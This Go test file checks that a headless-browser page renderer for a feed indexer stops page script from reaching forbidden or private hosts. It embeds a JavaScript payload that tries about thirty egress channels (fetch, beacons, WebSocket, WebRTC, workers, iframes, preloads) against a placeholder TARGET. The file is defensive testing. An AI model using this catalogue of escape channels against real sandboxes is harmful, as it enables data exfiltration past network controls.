package render_test

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"storyfeed/feed"
	"storyfeed/indexer/fetch"
	"storyfeed/indexer/render"
)

// escapes are the ways out that browsers offer. TARGET is a host:port that may
// not be asked.
const escapes = `
const u = 'http://TARGET/';
const doc = document.getElementById('blog');
const tried = [];
const attempt = (name, f) => { try { const r = f(); tried.push(name); if (r && r.catch) r.catch(() => {}); } catch (e) { tried.push(name + ' threw'); } };
const add = (html) => doc.insertAdjacentHTML('beforeend', html);
const link = (rel, as) => { const l = document.createElement('link'); l.rel = rel; l.href = u + rel; if (as) l.as = as; document.head.append(l); };
attempt('fetch', () => fetch(u));
attempt('no-cors', () => fetch(u, {mode: 'no-cors'}));
attempt('keepalive', () => fetch(u, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', u); x.send(); });
attempt('websocket', () => new WebSocket('ws://TARGET/'));
attempt('eventsource', () => new EventSource(u));
attempt('beacon', () => navigator.sendBeacon(u, 'x'));
attempt('realm beacon', () => { add('<iframe id="fresh"></iframe>'); const w = document.getElementById('fresh').contentWindow; w.navigator.sendBeacon(u, 'x'); w.fetch(u); new w.RTCPeerConnection({iceServers: [{urls: 'stun:TARGET'}]}).createDataChannel('x'); });
attempt('rtc', () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:TARGET'}, {urls: 'turn:TARGET?transport=tcp', username: 'a', credential: 'b'}]}); c.createDataChannel('x'); return c.createOffer().then(o => c.setLocalDescription(o)); });
attempt('webtransport', () => new WebTransport('https://TARGET/'));
for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender', 'manifest', 'icon', 'stylesheet']) attempt(rel, () => link(rel));
for (const as of ['script', 'font', 'image', 'fetch', 'style']) attempt('preload ' + as, () => link('preload', as));
attempt('speculation', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [u], eagerness: 'immediate'}], prerender: [{source: 'list', urls: [u], eagerness: 'immediate'}]}); document.head.append(s); });
attempt('elements', () => add('<img src="' + u + 'img"><iframe src="' + u + 'frame"></iframe><video src="' + u + 'video" autoplay preload="auto"></video><audio src="' + u + 'audio" autoplay></audio><object data="' + u + 'object"></object><embed src="' + u + 'embed"><div style="background: url(' + u + 'css)">x</div><form id="f" method="post" action="' + u + 'form"></form>'));
attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = '<img src="' + u + 'srcdoc"><script>fetch("' + u + 'srcdoc2"); new WebSocket("ws://TARGET/")</' + 'script>'; doc.append(f); });
attempt('data frame', () => { const f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch("' + u + 'dataframe", {mode: "no-cors"}); new WebSocket("ws://TARGET/")</' + 'script>'; doc.append(f); });
attempt('sandboxed', () => { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<script>fetch("' + u + 'sandboxed", {mode: "no-cors"}); new WebSocket("ws://TARGET/")</' + 'script>'; doc.append(f); });
attempt('font', () => { const s = document.createElement('style'); s.textContent = '@import url(' + u + 'import); @font-face { font-family: x; src: url(' + u + 'font) } body { font-family: x }'; document.head.append(s); });
const worker = URL.createObjectURL(new Blob(['fetch("' + u + 'worker", {mode: "no-cors"}); importScripts("' + u + 'imported"); new WebSocket("ws://TARGET/")'], {type: 'text/javascript'}));
attempt('worker', () => new Worker(worker));
attempt('shared worker', () => new SharedWorker(worker));
attempt('service worker', () => navigator.serviceWorker.register('/escape.js'));
attempt('import', () => import(u + 'module'));
attempt('open', () => window.open(u + 'open'));
attempt('click', () => { const a = document.createElement('a'); a.href = u + 'blank'; a.target = '_blank'; a.click(); const d = document.createElement('a'); d.href = u + 'download'; d.download = 'x'; d.click(); });
attempt('ping', () => { const a = document.createElement('a'); a.href = '#x'; a.ping = u + 'ping'; doc.append(a); a.click(); });
attempt('report', () => new ReportingObserver(() => {}).observe());
attempt('form', () => document.getElementById('f').submit());
add('<h1>Escapes</h1><p>' + 'words that make a page of it '.repeat(20) + '</p><p id="tried"></p>');
document.getElementById('tried').textContent = 'tried: ' + tried.join(', ');
setTimeout(() => attempt('navigate', () => { location.href = u + 'navigate'; }), 300);
`

// Nothing that a page does reaches an address that our fetcher refuses.
func TestNothingEscapes(t *testing.T) {
	t.Run("our process", func(t *testing.T) { tryEscapes(t, withBrowser(t)) })
	t.Run("a DevTools address", func(t *testing.T) {
		address := startBrowser(t)
		w := newWorld(t, func(c *render.Config) { c.Browser = address })
		tryEscapes(t, w)
		tryEscapes(t, w) // the first page left the browser as it was
	})
}

func tryEscapes(t *testing.T, w *world) {
	t.Helper()
	target, reached := forbidden(t)
	w.blog.Set("/escape", `<!DOCTYPE html><title>Escapes</title><meta http-equiv="x-dns-prefetch-control" content="on"><body><div id="blog"></div><script src="/escape.js"></script></body>`)
	w.blog.Set("/escape.js", strings.ReplaceAll(escapes, "TARGET", target))
	page, err := w.get("/escape")
	must(t, err)
	tried := regexp.MustCompile(`tried: [^<]*`).FindString(string(page.Body))
	if strings.Count(tried, ",") < 25 {
		t.Errorf("the page did not try: %q in\n%s", tried, page.Body)
	}
	t.Log(tried)
	if page.FinalURL != w.blog.URL+"/escape" {
		t.Errorf("the page went to %s", page.FinalURL)
	}
	if got := reached(); got != "" {
		t.Errorf("the page reached %s:\n%s", target, got)
	}
}

// forbidden is a host:port at which connections and packets are counted.
func forbidden(t *testing.T) (address string, reached func() string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	u, err := net.ListenPacket("udp", l.Addr().String())
	must(t, err)
	var first atomic.Value
	var count atomic.Int32
	note := func(what string) {
		count.Add(1)
		first.CompareAndSwap(nil, what)
	}
	done := make(chan struct{}, 2)
	go func() {
		defer func() { done <- struct{}{} }()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			line, _ := bufio.NewReader(c).ReadString('\n')
			note("a connection: " + line)
			c.Close()
		}
	}()
	go func() {
		defer func() { done <- struct{}{} }()
		buf := make([]byte, 2000)
		for {
			n, from, err := u.ReadFrom(buf)
			if err != nil {
				return
			}
			note(fmt.Sprintf("a packet of %d bytes from %v", n, from))
		}
	}()
	stop := func() { l.Close(); u.Close() }
	t.Cleanup(func() { stop(); <-done; <-done })
	return l.Addr().String(), func() string {
		if n := count.Load(); n > 0 {
			return fmt.Sprintf("%d times, first %v", n, first.Load())
		}
		return ""
	}
}

// startBrowser runs a browser of somebody else's, with no wall at all, and
// returns its DevTools address.
func startBrowser(t *testing.T) string {
	t.Helper()
	var path string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "headless-shell"} {
		if p, err := exec.LookPath(name); err == nil {
			path = p
			break
		}
	}
	if path == "" {
		t.Skip("no browser under a name that this test knows")
	}
	ctx, cancel := context.WithCancel(context.Background())
	args := []string{"--headless", "--remote-debugging-port=0", "--no-first-run", "--user-data-dir=" + filepath.Join(t.TempDir(), "other")}
	if os.Geteuid() == 0 {
		args = append(args, "--no-sandbox")
	}
	cmd := exec.CommandContext(ctx, path, append(args, "about:blank")...)
	cmd.WaitDelay = 5 * time.Second
	out, err := cmd.StderrPipe()
	must(t, err)
	must(t, cmd.Start())
	t.Cleanup(func() { cancel(); _ = cmd.Wait() }) // killed, which it says
	lines := bufio.NewScanner(out)
	for lines.Scan() {
		if _, address, ok := strings.Cut(lines.Text(), "listening on "); ok {
			go func() {
				for lines.Scan() { // it must not wait for somebody to read what it says
				}
			}()
			return strings.TrimSpace(address)
		}
	}
	t.Fatal("the browser named no DevTools address")
	return ""
}

// Private hosts are allowed for the series on them: a page from elsewhere
// can't have them read out.
func TestAllowedHostsAreNotForOthers(t *testing.T) {
	inside := newWorld(t)
	outside := withBrowser(t, func(c *render.Config) { c.Allow = []string{inside.blog.Host} })
	client, err := fetch.New(fetch.Config{Hosts: fetch.NewMemoryHosts(nil), Allow: []string{inside.blog.Host, outside.blog.Host}, HostGap: time.Millisecond})
	must(t, err)
	script := `fetch('` + inside.blog.URL + `/data/rope.json').then(r => r.text()).then(t => { document.getElementById('blog').textContent = t.repeat(3); }, () => {})`
	page := `<!DOCTYPE html><title>Curious</title><body><div id="blog"></div><script src="/curious.js"></script></body>`
	for allowed, want := range map[bool]int{false: 0, true: 1} {
		b, err := render.New(render.Config{Fetch: client, Allow: []string{inside.blog.Host}})
		must(t, err)
		if allowed {
			b, err = render.New(render.Config{Fetch: client, Allow: []string{inside.blog.Host, outside.blog.Host}})
			must(t, err)
		}
		outside.blog.Set("/curious", page)
		outside.blog.Set("/curious.js", script)
		inside.blog.Reset()
		_, err = b.Fetcher(feed.RenderAuto).Get(t.Context(), fetch.Request{URL: outside.blog.URL + "/curious"})
		if (err == nil) != allowed {
			t.Errorf("from an allowed host %v: %v", allowed, err)
		}
		if n := len(inside.blog.RequestsTo("/data/rope.json")); n != want {
			t.Errorf("from an allowed host %v: %d requests, want %d", allowed, n, want)
		}
		must(t, b.Close())
	}
}
